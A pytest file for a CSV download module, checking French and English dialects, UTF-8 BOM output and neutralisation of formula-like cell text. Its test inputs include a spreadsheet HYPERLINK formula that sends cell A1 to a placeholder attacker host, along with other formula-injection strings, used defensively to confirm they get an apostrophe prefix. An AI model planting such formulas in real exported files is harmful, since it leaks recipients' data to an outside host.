"""CSV downloads (`api.http.csv_download`): the dialects, and no formula handed to a spreadsheet
— while a negative number stays a number."""

from __future__ import annotations

import csv
import io

import pytest

from api.http.csv_download import BOM, Dialect, csv_response, csv_text, neutralise


def _read(text: str, dialect: Dialect) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[1:]), delimiter=dialect.separator))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
        "+33 3 89 00 00 00",
        "-x",
        "-5",  # a name is text, whatever it looks like
        "@SUM(1+1)",
        "\tTabulé",
        "\r=1+1",
        "\0=1",
    ],
)
def test_a_text_a_spreadsheet_would_take_for_a_formula_starts_with_an_apostrophe(
    text: str,
) -> None:
    assert neutralise(text) == f"'{text}"
    for dialect in Dialect:
        assert _read(csv_text([[text]], dialect), dialect) == [[f"'{text}"]]


@pytest.mark.parametrize("text", ["Service AEMO", "CMP = santé", "", "'déjà", "1 à 4"])
def test_other_texts_are_left_as_they_are(text: str) -> None:
    assert neutralise(text) == text


def test_numbers_are_written_in_the_dialect_and_negative_ones_stay_numbers() -> None:
    row: list[str | int | float | None] = ["-x", -3, -0.5, 0.6364, 18.0, 1e-05, None, 12]
    french = csv_text([row], Dialect.FR)
    assert french == BOM + "'-x;-3;-0,5;0,6364;18,0;0,00001;;12\r\n"
    english = csv_text([row], Dialect.EN)
    assert english == BOM + "'-x,-3,-0.5,0.6364,18.0,0.00001,,12\r\n"


def test_separators_and_quotes_inside_a_cell_are_quoted() -> None:
    text = csv_text([['Convention "AEMO; CMP", 2026', 1.5]], Dialect.FR)
    assert _read(text, Dialect.FR) == [['Convention "AEMO; CMP", 2026', "1,5"]]


def test_the_download_is_utf8_with_a_bom_as_an_attachment() -> None:
    response = csv_response([["Périmètre", "Valeur"], ["Établissement", 3]], Dialect.FR, "r.csv")
    assert bytes(response.body).startswith(b"\xef\xbb\xbfP\xc3\xa9rim\xc3\xa8tre;Valeur\r\n")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="r.csv"'
    assert Dialect.of_language("en") is Dialect.EN
    assert Dialect.of_language("fr") is Dialect.FR
